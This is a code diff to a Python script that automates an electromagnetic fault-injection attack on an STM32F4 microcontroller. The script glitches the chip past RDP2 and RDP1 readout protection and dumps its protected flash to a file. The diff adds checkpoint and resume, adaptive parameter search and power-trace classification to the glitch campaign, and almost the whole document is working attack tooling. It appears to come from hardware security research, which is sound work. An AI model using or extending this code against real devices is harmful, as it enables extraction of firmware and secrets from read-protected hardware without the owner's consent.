@@ -7,6 +7,19 @@ import time
 import serial
 from stm32bl import *
 from picoemp import *
+from resultstore import *
+from flashdump import *
+from printer import *
+from campaign import *
+from scanplan import *
+from sampler import *
+from rig import *
+from checkpoint import *
+import timing
+from classify import TraceClassifier
+from tracesink import TraceSink
+import numpy as np
+import analysis
 import logging
 
 scope = cw.scope()
@@ -34,7 +47,13 @@ RDP1_TRIES = 10
 
 logFormatter = logging.Formatter("%(asctime)s [%(threadName)-12.12s] [%(levelname)-5.5s]  %(message)s")
 rootLogger = logging.getLogger("GDBG")
-fileHandler = logging.FileHandler(f"{time.time()}_{RDP2_XMIN}_{RDP2_XMAX}_{RDP2_YMIN}_{RDP2_YMAX}_{RDP2_BP_START}_{RDP2_BP_END}_{RDP2_Z_OFFSET}_{RDP1_BP_START}_{RDP1_BP_END}_{RDP1_Z_OFFSET_START}_{RDP1_Z_OFFSET_END}.glitchlog")
+CAMPAIGN_NAME = f"{RDP2_XMIN}_{RDP2_XMAX}_{RDP2_YMIN}_{RDP2_YMAX}_{RDP2_BP_START}_{RDP2_BP_END}_{RDP2_Z_OFFSET}_{RDP1_BP_START}_{RDP1_BP_END}_{RDP1_Z_OFFSET_START}_{RDP1_Z_OFFSET_END}"
+# A restarted run with the same settings picks up where the last one stopped - see checkpoint.py
+# Delete the .checkpoint file to start over
+CHECKPOINT = Checkpoint(f"{CAMPAIGN_NAME}.checkpoint")
+RUN_NAME = CHECKPOINT.get('run_name') or f"{time.time()}_{CAMPAIGN_NAME}"
+CHECKPOINT.update(run_name=RUN_NAME)
+fileHandler = logging.FileHandler(f"{RUN_NAME}.glitchlog")
 fileHandler.setFormatter(logFormatter)
 rootLogger.addHandler(fileHandler)
 consoleHandler = logging.StreamHandler()
@@ -43,107 +62,37 @@ rootLogger.addHandler(consoleHandler)
 rootLogger.setLevel(logging.DEBUG)
 # create console handler and set level to debug
 rootLogger.debug("Glitch DBG Logs")
-rootLogger.debug(f"{time.time()}_{RDP2_XMIN}_{RDP2_XMAX}_{RDP2_YMIN}_{RDP2_YMAX}_{RDP2_BP_START}_{RDP2_BP_END}_{RDP2_Z_OFFSET}_{RDP1_BP_START}_{RDP1_BP_END}_{RDP1_Z_OFFSET_START}_{RDP1_Z_OFFSET_END}")
-
-
-def detect_bootloader(attempts=1):
-    response = send_command(BootloaderCommand(0x7F))
-    while response != b'\x79':
-        response = send_command(BootloaderCommand(0x7F))
-        attempts -= 1
-        if attempts == 0:
-            return False
-    return True
-
-def reboot_flush():            
-    scope.io.target_pwr = False
-    time.sleep(.1)
-    scope.arm()
-    scope.io.target_pwr = True
-
-
-def configure_reset_trigger():
-    scope.reset_fpga()
-    scope.default_setup()
-    time.sleep(.1)
-    scope.glitch.enabled = True   
-    try:
-        scope.clock.clkgen_freq = 30e6
-        scope.glitch.clk_src = "pll"
-    except ValueError as noresp:
-        pass
-    while not scope.glitch.mmcm_locked:
-        scope.reset_fpga()
-        scope.default_setup()
-        scope.glitch.resetDCMs(keepPhase=False)
-        scope.glitch.enabled = True   
-        try:
-            scope.clock.clkgen_freq = 30e6
-            scope.glitch.clk_src = "pll"
-        except ValueError as asinine:
-            pass
-        time.sleep(.1)
-        pass
-    scope.trigger.triggers = "tio4"
-    scope.glitch.trigger_src = "ext_single" # glitch only after scope.arm() called
-    scope.glitch.output = "enable_only" # glitch_out = clk ^ glitch
-    scope.glitch.repeat = 500
-    scope.glitch.width = 40
-    scope.glitch.offset = -45
-    scope.io.glitch_trig_mcx = 'glitch'
-    scope.io.hs2 = "glitch"
-
-
-def configure_edge_trigger():
-    #scope.reset_fpga()
-    #scope.default_setup()
-    time.sleep(.1)
-    scope.glitch.enabled = True
-    try:
-        scope.clock.clkgen_freq = 30e6
-        scope.glitch.clk_src = "pll"
-    except ValueError as noresp:
-        pass
-    while not scope.glitch.mmcm_locked:
-        #scope.reset_fpga()
-        #scope.default_setup()
-        scope.glitch.resetDCMs(keepPhase=False)
-        scope.glitch.enabled = True   
-        try:
-            scope.clock.clkgen_freq = 30e6
-            scope.glitch.clk_src = "pll"
-        except ValueError as asinine:
-            pass
-        time.sleep(.1)
-        pass
-    scope.trigger.module = 'edge_counter'
-    scope.trigger.triggers = "tio1"
-    scope.trigger.edges = 11
-    scope.io.glitch_trig_mcx = 'glitch'
-    scope.glitch.trigger_src = "ext_single" # glitch only after scope.arm() called
-    scope.glitch.output = "enable_only" # glitch_out = clk ^ glitch
-    scope.glitch.repeat = 500
-    scope.glitch.width = 40
-    scope.glitch.offset = -45
-    scope.io.hs2 = "glitch"
-
-
-PICO="/dev/serial/by-id/usb-Raspberry_Pi_Pico_E661640843604326-if00"
-PRINTER="/dev/serial/by-id/usb-1a86_USB_Serial-if00-port0"
+rootLogger.debug(RUN_NAME)
+if CHECKPOINT.resumed:
+    rootLogger.debug(f"Resuming from checkpoint: {CHECKPOINT.state}")
+
+# Per step timings of every attempt, exported next to the log at the end - see timing.py
+TIMING = True
+if TIMING:
+    timing.enable()
+
+# Every attempt, successful or not, goes to the binary store - see resultstore.py
+store = ResultStore(f"{RUN_NAME}.glitchstore")
+
+
+# Device paths - see rig.DEFAULT_RIG
+PICO=DEFAULT_RIG['pico']
+PRINTER=DEFAULT_RIG['printer']
 baud_rate = 115200  # Set the baud rate to match your STM32 bootloader configuration
 timeout = 1  # Set the timeout value as needed
-print_cntrl = serial.Serial(PRINTER,baud_rate,timeout=timeout)
+printer = GCodePrinter(PRINTER,baud_rate,timeout=timeout)
 
-def soft_reset():
-    scope.io.nrst = False  
-    time.sleep(.05)
-    scope.io.nrst = 'high_z'
+# Open the STM32 bootloader UART
+connect(DEFAULT_RIG['uart'])
 
 # Set up PicoEMP
 pico = ChipShouterPicoEMP(PICO)
 pico.setup_external_control()
 pico.arm()
 
+# Printer, PicoEMP, scope and UART each run on their own thread - see campaign.py
+campaign = Campaign(printer, pico)
+
 # Configure RDP2 to RDP1 parameters
 RDP2_GC = cw.GlitchController(groups=["success", "normal"], parameters=["ext_offset","x","y","tries"])
 RDP2_GC.set_global_step([1])
@@ -153,6 +102,44 @@ RDP2_GC.set_range("x",RDP2_XMIN,RDP2_XMAX)
 RDP2_GC.set_range("y",RDP2_YMIN,RDP2_YMAX)
 RDP2_GC.set_step("x", [.1]) # eqv to [10, 10, 10]
 RDP2_GC.set_step("y", [.1]) # eqv to [10, 10, 10]
+# Run every offset/try at a position before moving on, positions in serpentine order - see scanplan.py
+RDP2_PLAN = ScanPlan.from_glitch_controller(RDP2_GC)
+rootLogger.debug(f"RDP2 scan plan: {RDP2_PLAN.report()}")
+
+# Optionally replace the sweep with an adaptive search seeded from earlier campaigns - see sampler.py
+# The campaign loop draws the next setting while the current one is probed, so updates lag one attempt
+RDP2_ADAPTIVE = False
+RDP2_PRIOR_LOGS = ["../notebooks/logs/christmas-presents.log"]
+RDP2_PRIOR_OFFSETS = ["../notebooks/logs/bootloader-offsets.txt"]
+RDP2_SAMPLER = None
+if RDP2_ADAPTIVE:
+    RDP2_SAMPLER = AdaptiveSampler.from_glitch_controller(RDP2_GC)
+    for path in RDP2_PRIOR_LOGS:
+        RDP2_SAMPLER.seed(analysis.parse_results_array(path), weight=0.1)
+    for path in RDP2_PRIOR_OFFSETS:
+        RDP2_SAMPLER.seed(load_offsets(path), weight=0.1)
+    # The sampler has no position to skip to, it relearns from the attempts already in the store
+    if CHECKPOINT.resumed:
+        records = load(store.path)
+        RDP2_SAMPLER.seed(records[records['phase'] == PHASE_RDP2])
+
+# Skip the UART probe when the boot power trace already shows a normal boot or a dead target - see classify.py
+# Until there are templates the first RDP2_CALIBRATION attempts are all probed and learnt from
+RDP2_CLASSIFY = True
+RDP2_TEMPLATES = "rdp2-templates.npz"
+RDP2_CALIBRATION = 200
+RDP2_CLASSIFIER = None
+RDP2_CALIBRATION_DATA = ([], [])
+if RDP2_CLASSIFY and os.path.exists(RDP2_TEMPLATES):
+    RDP2_CLASSIFIER = TraceClassifier.load(RDP2_TEMPLATES)
+
+# Keep every RDP2 boot trace, streamed to a ChipWhisperer project as the campaign runs - see tracesink.py
+# Each trace is saved with the index of its store record (project.records), a lost batch or a failed
+# attempt leaves gaps but never pairs a trace with the wrong record
+RDP2_SAVE_TRACES = False
+RDP2_TRACES = TraceSink(f"{RUN_NAME}_rdp2") if RDP2_SAVE_TRACES else None
+# Trace of the attempt in flight, from RDP2_probe to RDP2_result
+RDP2_CAPTURED = [None]
 
 # Configure RDP1 bypass parameters
 RDP1_GC = cw.GlitchController(groups=["success","normal"],parameters=["ext_offset","tries"])
@@ -167,65 +154,173 @@ scope.adc.clip_errors_disabled = True
 # An ext offset of 100, places us about 5us _after_ the last pulse of our serial message
 # If we are assuming about 18-20us of response time between then we shold have an ext offset from 100-600
 
-current_addr = 0x8000000
-total_size = 1024*256
+FLASH_BASE = 0x8000000
+FLASH_SIZE = 1024*256
+
+# Pages land in one image file, with the coverage map next to it - see flashdump.py
+# A restarted run continues from the first page that is still missing
+dump = FlashDump(f"stm32f4-flash-{FLASH_BASE:08X}.bin", FLASH_BASE, FLASH_SIZE)
+
+current_addr = dump.next_missing()
+# The dump is what says which pages are done, the checkpoint's address is only a cross check
+if CHECKPOINT.resumed and CHECKPOINT.get('flash_addr', current_addr) != current_addr:
+    rootLogger.warning(f"Checkpoint was at flash address {CHECKPOINT.get('flash_addr')}, "
+                       f"the dump's first missing page is {current_addr}, going by the dump")
+
+def restore_devices(phase):
+    # A resumed campaign keeps the device settings it was started with
+    for field, (configured, saved) in CHECKPOINT.restore_devices(phase, pico, scope).items():
+        rootLogger.warning(f"{field} is {saved!r} in the checkpoint, not {configured!r}, keeping the checkpoint's")
+
+def RDP1_prepare(glitch_setting):
+    soft_reset(scope)
+    x = detect_bootloader(attempts=2)
+    if not x:
+        RDP2_Bypass()
+        configure_edge_trigger(scope)
+        restore_devices('RDP1')
+        CHECKPOINT.update(phase='RDP1')
+        CHECKPOINT.save_devices('RDP1', pico, scope)
+    with timing.span('scope.glitch_io'):
+        scope.glitch.ext_offset = glitch_setting[0]
+        scope.io.glitch_hp = False
+        scope.io.glitch_hp = True
+        scope.io.glitch_lp = False
+        scope.io.glitch_lp = True
+
+def RDP1_probe(glitch_setting):
+    # The edge trigger fires the glitch off the read command itself
+    return read_memory(current_addr,dump.page_size - 1,scope)
+
+def RDP1_result(glitch_setting, test, trace):
+    global current_addr
+    tries = glitch_setting[1]
+    page_read = test != None and len(test) == dump.page_size
+    store.append(glitch_setting[0], z=RDP1_Z_OFFSET_START, tries=tries, phase=PHASE_RDP1,
+                 result=2 if page_read else RESULT_NORMAL)
+    if page_read:
+        rootLogger.debug(f"Page READ @ {current_addr} = {glitch_setting[0]}")
+        rootLogger.debug(f"Ext Offset = {glitch_setting[0]}")
+        dump.write_page(current_addr, test)
+        # Only glitch for pages that are still missing
+        current_addr = dump.next_missing(current_addr)
+    CHECKPOINT.advance('RDP1', flash_addr=current_addr)
+    return current_addr is None
 
 def RDP1_Bypass():
     # Soft reset
-    PAGE_READ = False
-    while current_addr <= current_addr + total_size:
-        for glitch_setting in RDP1_GC.glitch_values():
-            tries = glitch_setting[1]
-            soft_reset()
-            x = detect_bootloader(attempts=2)
-            if not x:
-                RDP2_Bypass()
-                configure_edge_trigger()
-            print_cntrl.write(f"G0 Z{RDP1_Z_OFFSET_START}\r\n".encode())
-            scope.glitch.ext_offset = glitch_setting[0]
-            scope.io.glitch_hp = False
-            scope.io.glitch_hp = True
-            scope.io.glitch_lp = False
-            scope.io.glitch_lp = True
-            pico.arm()
-            scope.capture()
-            scope.arm()
-            test = read_memory(current_addr,0xFF,scope)
-            if test != None:
-                if len(test) >= 0xF0:
-                    rootLogger.debug(f"Page READ @ {current_addr} = {glitch_setting[0]}")
-                    rootLogger.debug(f"Ext Offset = {glitch_setting[0]}")
-                    with open(f"{current_addr}.bin",'wb') as ofile:
-                        ofile.write(test)
-                    curent_addr += 0x100
-                    if current_addr == current_addr+total_size:
-                        rootLogger.debug(f"Flash read complete! Total time: {time.time() - start_time}")
-                        sys.exit()
+    rootLogger.debug(f"Flash dump: {dump.pages_read}/{dump.num_pages} pages already read")
+    # The target may still be in the bootloader from the last run, RDP1_prepare only sets up the edge trigger after RDP2
+    if CHECKPOINT.resumed:
+        configure_edge_trigger(scope)
+        restore_devices('RDP1')
+        CHECKPOINT.save_devices('RDP1', pico, scope)
+    CHECKPOINT.update(phase='RDP1', flash_addr=current_addr)
+    while current_addr is not None:
+        campaign.run(CHECKPOINT.skip('RDP1', RDP1_GC),
+                     position=lambda glitch_setting: (None, None, RDP1_Z_OFFSET_START),
+                     prepare=RDP1_prepare,
+                     fire=lambda glitch_setting: scope.arm(),
+                     probe=RDP1_probe,
+                     capture=lambda glitch_setting: scope.capture(),
+                     on_result=RDP1_result)
+        CHECKPOINT.reset('RDP1')
+    CHECKPOINT.update(phase='DONE')
+    rootLogger.debug(f"Flash read complete! Total time: {time.time() - start_time}")
+    rootLogger.debug(f"{campaign.attempts} attempts, {campaign.attempts_per_second:.2f} attempts/s")
+    dump.close()
+    sys.exit()
 '''
 Bypass the RDP check in the bootloader, allowing for the MCU to boot into UART bootloader mode
 '''
+def RDP2_prepare(glitch_setting):
+    with timing.span('scope.glitch_io'):
+        scope.glitch.ext_offset = glitch_setting[0]
+        scope.io.glitch_hp = False
+        scope.io.glitch_hp = True
+        scope.io.glitch_lp = False
+        scope.io.glitch_lp = True
+
+def RDP2_calibrate(envelope, found):
+    global RDP2_CLASSIFIER
+    envelopes, labels = RDP2_CALIBRATION_DATA
+    envelopes.append(envelope)
+    labels.append(0 if found else RESULT_NORMAL)
+    if len(labels) >= RDP2_CALIBRATION:
+        RDP2_CLASSIFIER = TraceClassifier().fit_envelopes(np.array(envelopes), labels)
+        RDP2_CLASSIFIER.save(RDP2_TEMPLATES)
+        rootLogger.debug(f"Trace templates for {RDP2_CLASSIFIER.labels} saved to {RDP2_TEMPLATES}")
+
+# Returns the result code, BOOT_MODE (0) when the bootloader answered
+def RDP2_probe(glitch_setting):
+    envelope = None
+    RDP2_CAPTURED[0] = None
+    if RDP2_CLASSIFY or RDP2_TRACES is not None:
+        with timing.span('scope.capture'):
+            scope.capture()
+            trace = scope.get_last_trace()
+        RDP2_CAPTURED[0] = trace
+    if RDP2_CLASSIFY:
+        if RDP2_CLASSIFIER is not None:
+            with timing.span('classify'):
+                label = RDP2_CLASSIFIER.classify(trace)[0]
+            if not RDP2_CLASSIFIER.should_probe(label):
+                return int(label)
+        else:
+            envelope = TraceClassifier().envelope(trace)[0]
+    with timing.span('boot_wait'):
+        time.sleep(.3)
+    found = detect_bootloader(attempts=2)
+    if envelope is not None:
+        RDP2_calibrate(envelope, found)
+    return 0 if found else RESULT_NORMAL
+
+def RDP2_result(glitch_setting, result, trace):
+    ext_offset, x_coord, y_coord, tries = glitch_setting
+    found = result == 0
+    store.append(ext_offset, x_coord, y_coord, RDP2_Z_OFFSET, tries, PHASE_RDP2, result)
+    if RDP2_TRACES is not None and RDP2_CAPTURED[0] is not None:
+        RDP2_TRACES.append(RDP2_CAPTURED[0], record=len(store) - 1)
+        RDP2_CAPTURED[0] = None
+    if RDP2_SAMPLER is not None:
+        RDP2_SAMPLER.update(glitch_setting, result)
+    CHECKPOINT.advance('RDP2')
+    if found:
+        rootLogger.debug(f"RDP2_RDP1 X: {x_coord} - Y: {y_coord} Offset: {ext_offset}")
+        log_latency_histograms(rootLogger)
+        if timing.enabled:
+            rootLogger.debug("Attempt timing:\n" + timing.format_summary())
+    return found
+
 def RDP2_Bypass():
-    configure_reset_trigger()
+    configure_reset_trigger(scope)
+    restore_devices('RDP2')
+    CHECKPOINT.update(phase='RDP2')
+    CHECKPOINT.save_devices('RDP2', pico, scope)
     BL_MODE = False
     while BL_MODE == False:
-        for glitch_setting in RDP2_GC.glitch_values():
-            scope.glitch.ext_offset = glitch_setting[0]
-            x_coord = glitch_setting[1]
-            y_coord = glitch_setting[2]
-            tries = glitch_setting[3]
-            print_cntrl.write(f"G0 X{x_coord} Y{y_coord} Z{RDP2_Z_OFFSET}\r\n".encode())
-            scope.io.glitch_hp = False
-            scope.io.glitch_hp = True
-            scope.io.glitch_lp = False
-            scope.io.glitch_lp = True
-            pico.arm()
-            reboot_flush()    
-            time.sleep(.3)
-            foo = detect_bootloader(attempts=2)
-            if foo:
-                rootLogger.debug(f"RDP2_RDP1 X: {x_coord} - Y: {y_coord} Offset: {scope.glitch.ext_offset}")
-                BL_MODE = True
+        # Stops on the first attempt that lands in the bootloader
+        if RDP2_SAMPLER:
+            settings = RDP2_SAMPLER.glitch_values(len(RDP2_PLAN) - CHECKPOINT.position('RDP2'))
+        else:
+            settings = CHECKPOINT.skip('RDP2', RDP2_PLAN)
+        BL_MODE = campaign.run(settings,
+                               position=lambda glitch_setting: (glitch_setting[1], glitch_setting[2], RDP2_Z_OFFSET),
+                               prepare=RDP2_prepare,
+                               fire=lambda glitch_setting: reboot_flush(scope),
+                               probe=RDP2_probe,
+                               on_result=RDP2_result) is not None
+        # Every RDP2 run starts a fresh sweep, as before
+        CHECKPOINT.reset('RDP2')
     return BL_MODE
 
 start_time = time.time()
-RDP1_Bypass()
\ No newline at end of file
+try:
+    RDP1_Bypass()
+finally:
+    if RDP2_TRACES is not None:
+        RDP2_TRACES.close()
+    if timing.enabled:
+        timing.export_csv(f"{RUN_NAME}.timing.csv")
+        timing.export_csv(f"{RUN_NAME}.spans.csv", raw=True)
+        timing.export_json(f"{RUN_NAME}.timing.json")
\ No newline at end of file